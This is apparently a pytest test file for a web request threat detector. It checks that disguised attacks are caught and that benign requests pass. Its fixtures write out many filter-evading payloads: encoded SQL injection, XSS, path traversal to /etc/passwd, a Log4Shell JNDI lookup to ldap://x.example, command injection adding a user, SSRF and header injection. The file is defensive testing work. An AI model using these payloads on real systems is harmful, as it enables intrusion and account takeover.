"""Inspecting a request finds attacks in any disguise, says where, and never fails."""

from __future__ import annotations

from urllib.parse import quote

import pytest

from aura_logging.patterns.re_set import compile_set as compile_re_set
from aura_logging.threats import Inspector, examine, inspect
from aura_logging.threats.gate import Gate
from aura_logging.threats.signatures import SIGNATURES

BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"


def kinds(parts) -> set[str]:
    return {threat.kind for threat in inspect(parts)}


def test_an_ordinary_request_holds_no_threat() -> None:
    parts = {
        "path": "/catalogue/shoes/red/",
        "query": "page=2&sort=-price&q=red+running+shoes&tag[]=a%20b",
        "user-agent": BROWSER,
        "referer": "http://localhost:8000/login?next=%2Fcatalogue%2F",
        "host": "localhost:8000",
        "cookie": "sessionid=abc123; csrftoken=xyz; theme=dark",
    }
    assert inspect(parts) == []


def test_a_threat_tells_kind_score_location_and_rule() -> None:
    (threat,) = inspect({"path": "/", "query": "id=1%27%20or%20%271%27%3D%271", "user-agent": BROWSER})
    assert (threat.kind, threat.location, threat.rule) == ("sqli", "query", "sqli.tautology")
    assert 0.5 <= threat.score <= 1
    assert threat.evidence == "1' or '1'='1"
    assert not threat.is_cut


def test_each_part_is_told_apart() -> None:
    threats = inspect(
        {"path": "/..%2f..%2f..%2fetc/passwd", "query": "q=<script>x()</script>", "user-agent": "sqlmap/1.7"}
    )
    assert {(t.kind, t.location) for t in threats} == {
        ("path_traversal", "path"),
        ("xss", "query"),
        ("scanner", "user-agent"),
    }


@pytest.mark.parametrize(
    ("kind", "attack"),
    [
        ("sqli", "1%2527%2520or%25201%253D1--"),
        ("sqli", "1'/**/oR/**/1=1--"),
        ("sqli", "-1+UnIoN+aLl+sElEcT+1,2"),
        ("sqli", "%EF%BC%87 or 1=1--"),
        ("xss", "&lt;script&gt;alert(1)&lt;/script&gt;"),
        ("xss", "\\u003cscript\\u003ealert(1)"),
        ("xss", '<a href="&#106;&#97;&#118;ascript:alert(1)">'),
        ("path_traversal", "..%c0%af..%c0%af..%c0%afetc/passwd"),
        ("path_traversal", "%uff0e%uff0e%u2215%uff0e%uff0e%u2215x"),
        ("path_traversal", "%252e%252e%252f%252e%252e%252fx"),
        ("path_traversal", "../../x%00.png"),
        ("log4shell", "${${lower:j}${upper:n}di:ldap://x.example/a}"),
        ("command_injection", "x%0Acat%20/etc/hosts"),
        ("xss", '<a/href="j&Tab;a&Tab;v&Tab;asc&NewLine;ri&Tab;pt&colon;alert&lpar;1&rpar;">X</a>'),
        ("ssrf", "http://127\u30020\u30020\u30021/"),
        ("ssrf", "http://\u24db\u24de\u24d2\u24d0\u24db\u24d7\u24de\u24e2\u24e3/"),
        ("header_injection", "%c4%8d%c4%8aSet-Cookie: a=b"),
    ],
)
def test_a_disguise_is_seen_through(kind: str, attack: str) -> None:
    assert kind in kinds({"query": f"q={attack}"})
    assert kind in kinds({"query": attack})
    assert kind in kinds({"query": "page=2&q=" + quote(attack, safe="")})


@pytest.mark.parametrize("body", [{"user[$ne]": "1"}, {"constructor": {"prototype": {"a": 1}}}])
def test_names_of_a_parsed_form_that_are_the_attack_are_seen(body) -> None:
    assert inspect({"body": body})


@pytest.mark.parametrize("body", [{"$gt": ""}, {"user": {"$ne": None}}, {"a": [{"b": {"$where": "1"}}]}])
def test_a_parsed_body_is_looked_at_with_its_names(body) -> None:
    assert kinds({"body": body}) == {"nosql"}
    assert kinds({"body": {"name": "O'Brien", "text": "select a gift"}}) == set()


def test_a_json_text_is_looked_at_value_by_value() -> None:
    assert kinds({"body": '{"a": "1\' or \'1\'=\'1", "b": 2}'}) == {"sqli"}
    assert kinds({"body": b'{"a": "it\'s \\"fine\\"", "b": {"c": "and \'more\'"}}'}) == set()


def test_a_name_that_is_the_attack_is_seen() -> None:
    assert kinds({"query": "user[$ne]=1"}) == {"nosql"}
    assert "code_injection" in kinds({"query": "class.module.classLoader.resources.context=x"})


def test_what_is_beyond_the_bound_is_cut_and_the_cut_is_noted() -> None:
    found = examine({"query": "q=1 or 1=1--&x=" + "a" * 70_000, "path": "/"})
    assert found.cut == ("query",)
    assert [threat.is_cut for threat in found.threats] == [True]
    assert examine({"query": "q=" + "a" * 70_000}).cut == ("query",)
    assert examine({"query": "q=" + "a" * 70_000 + "&x=<script>x()</script>"}).threats != ()


def test_evidence_is_short_and_printable() -> None:
    (threat,) = inspect({"query": "q=x%0d%0aSet-Cookie:%20a=b" + "c" * 500})
    assert len(threat.evidence) <= 120
    assert threat.evidence.isprintable()


@pytest.mark.parametrize(
    "parts", [{}, {"query": None}, {"query": object()}, {"q": [[[]]] * 5}, {3: "x' or 1=1--"}, None, 7]
)
def test_nothing_that_is_handed_over_makes_it_raise(parts) -> None:
    inspect(parts)


def test_a_failure_inside_is_counted_and_harmless() -> None:
    class Bad(dict):
        def values(self):
            raise RuntimeError

        def items(self):
            raise RuntimeError

    inspector = Inspector()
    assert inspector.inspect(Bad()) == []
    assert inspector.health().facts["failures"] == {"RuntimeError": 1}


def test_without_re2_the_verdicts_are_the_same() -> None:
    plain = Inspector(Gate(SIGNATURES, compile_re_set))
    for query in ["q=1' or '1'='1", "q=O'Brien", "q=<svg/onload=x>", "a=;cat /etc/passwd", "q=red+shoes"]:
        assert plain.inspect({"query": query}) == inspect({"query": query})


@pytest.mark.parametrize(
    "query",
    [
        "q=1%2Bunion%2Bselect%2B1,2",  # the application decodes once more than its framework
        "q=drop/*x*/table/*y*/users",
        "q=1+un/**/ion+sel/**/ect+1,2",
        "q=1%a0or%a01=1",
        "q=1%C2%A0or%C2%A01%3D1",
        "q=%EF%BC%87%20or%20%EF%BC%871%EF%BC%87%EF%BC%9D%EF%BC%871",
        "q=%2525252527%25252520or%252525201=1--",
        "q=x%26%20net%09user%20eve%20x%20/add",
    ],
)
def test_a_disguise_is_seen_through_in_a_form(query: str) -> None:
    assert inspect({"query": query}) != []


@pytest.mark.parametrize("secret", ["4111111111111111", "4111 1111 1111 1111", "alice.smith@example.com"])
@pytest.mark.parametrize("shift", range(1, 16))
def test_evidence_is_not_cut_in_the_midst_of_what_would_be_scrubbed(secret: str, shift: int) -> None:
    payload = ("' or 1=1-- " + "; " * 60)[: 120 - shift] + secret
    (threat,) = inspect({"query": payload})
    assert not any(letter in threat.evidence[10:] for letter in "41ace")


def test_what_stands_in_a_letter_by_chance_is_no_attack_and_what_nobody_writes_by_chance_is_one() -> None:
    letter = "Dear all, here is what we have said:\n'cat' or 'dog' = 2 | echo\n{}\nBest, O'Brien"
    assert inspect({"body": {"text": letter.format("see you soon")}}) == []
    for attack in ("<script src=//x.example>", "x' union select 1,2--", "${jndi:ldap://x.example/a}"):
        assert inspect({"body": {"text": letter.format(attack)}}) != [], attack
